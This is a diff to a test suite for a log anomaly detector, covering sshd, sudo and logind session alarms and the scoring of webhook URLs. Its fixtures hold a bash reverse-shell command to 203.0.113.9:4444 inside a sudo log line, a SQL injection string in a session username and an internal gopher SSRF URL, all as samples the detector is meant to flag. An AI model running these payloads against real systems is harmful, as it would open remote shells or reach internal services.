@@ -301,16 +301,23 @@ describe("training and scoring", () => {
     // Its next 4 lines of the second at most, whatever their fraction of it.
     scored(at("11:00:04.500", "bastion", "sshd[9997]", "Accepted password for alice from 185.220.101.247 port 37164 ssh2"));
     expect(["11:00:04.120", "11:00:04.250", "11:00:04.380", "11:00:04.510", "11:00:04.640"].map((t) => scored(logind(t)).tarkin_anomaly)).toEqual([true, true, true, true, false]);
-    // sudo logs no process id, as the kernel does (a boot writes a burst of lines a second): its alarm opens no second.
+    // sudo logs no process id, as the kernel does (a boot writes a burst of lines a second): its alarm
+    // opens no second (and its lines, of no tag, take none).
     const shell = scored(at("11:00:05.500", "bastion", "sudo", "   alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"));
     expect(shell.tarkin_surprise).toBeGreaterThanOrEqual(0.5);
-    expect(scored(at("11:00:05.500", "bastion", "sudo", "pam_unix(sudo:session): session opened for user root by alice(uid=0)")).tarkin_anomaly).toBe(false);
+    expect(scored(logind("11:00:05.500")).tarkin_anomaly).toBe(false);
     // A line of no header at all is no second's.
     scored(at("11:00:05.700", "bastion", "sshd[9996]", "Accepted password for alice from 185.220.101.248 port 37165 ssh2"));
     expect(scored("session opened for user alice").tarkin_reason).not.toMatch(/alarm/);
     // A daemon's alarm opens no second.
     expect(scored(at("11:00:06.500", "bastion", "systemd-logind[707]", "New session 302 of user alice'; DROP TABLE users; --.")).tarkin_surprise).toBeGreaterThanOrEqual(0.5);
-    expect(scored(at("11:00:06.500", "bastion", "sudo", "pam_unix(sudo:session): session opened for user root by alice(uid=0)")).tarkin_anomaly).toBe(false);
+    expect(scored(logind("11:00:06.500")).tarkin_anomaly).toBe(false);
+    // The host is the header's: an address with dots is no fraction of a second.
+    scored(at("11:00:07.500", "10.0.0.5", "sshd[9995]", "Accepted password for alice from 185.220.101.249 port 37166 ssh2"));
+    expect(scored(logind("11:00:07.500", "10.0.0.6")).tarkin_reason).not.toMatch(/alarm/);
+    // And a process is its host's: another host's sshd of the same id is another session.
+    scored(at("11:00:08.500", "bastion", "sshd[9994]", "Accepted password for alice from 185.220.101.250 port 37167 ssh2"));
+    expect(scored(at("11:00:09.500", "web1", "sshd[9994]", "Received disconnect from 10.8.1.3 port 40001:11: disconnected by user")).tarkin_reason).not.toMatch(/alarm/);
   });
 
   it("a path (a request's, path=): a name never held under a directory of few names is news; a name that varies is not", () => {
@@ -359,7 +366,8 @@ describe("training and scoring", () => {
     }
     // Shaped as the field's URLs, only the scheme is new; the reason names what weighs most.
     expect(reason(`http://${hosts[0]}/1f3a7`)).toBe("scheme of webhook_url: a value it never held");
-    expect(reason("gopher://10.0.0.5:25/_HELO")).toBe("webhook_url: rare shape");
+    // A gopher URL to a host of the server's network is attack syntax too, which weighs most.
+    expect(reason("gopher://10.0.0.5:25/_HELO")).toBe("webhook_url: internal url syntax");
   });
 
   it("reads a JSON object's string values for sentiment, where they lie: its failed login is security evidence", () => {
